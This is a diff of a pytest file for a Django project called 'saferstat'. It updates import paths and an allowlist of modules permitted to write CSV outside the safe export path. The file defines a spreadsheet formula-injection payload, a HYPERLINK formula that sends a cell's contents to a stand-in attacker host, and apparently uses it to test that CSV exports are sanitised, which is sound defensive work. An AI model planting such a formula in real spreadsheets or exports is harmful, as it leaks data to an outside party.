@@ -9,15 +9,15 @@ from pathlib import Path
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
+from saferstat.intelligence.datasets.services import partner_dataset_declare, partner_upload_create
 from saferstat.intelligence.models import ImportStatus
-from saferstat.intelligence.partner_services import partner_dataset_declare, partner_upload_create
 
 SAFERSTAT = Path(__file__).resolve().parents[2] / "saferstat"
 #: Files that may write CSV without `exports`: none of them answers an HTTP request.
 NOT_DOWNLOADS = {
     "core/exports.py",  # the safe export path itself
     "cli.py",  # the command line prints to the analyst's own terminal
-    "intelligence/partner_demo.py",  # writes invented demo input files to disk
+    "intelligence/datasets/demo.py",  # writes invented demo input files to disk
 }
 RAW_CSV = re.compile(r"text/csv|csv\.writer|csv\.DictWriter|spreadsheetml|opendocument")
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
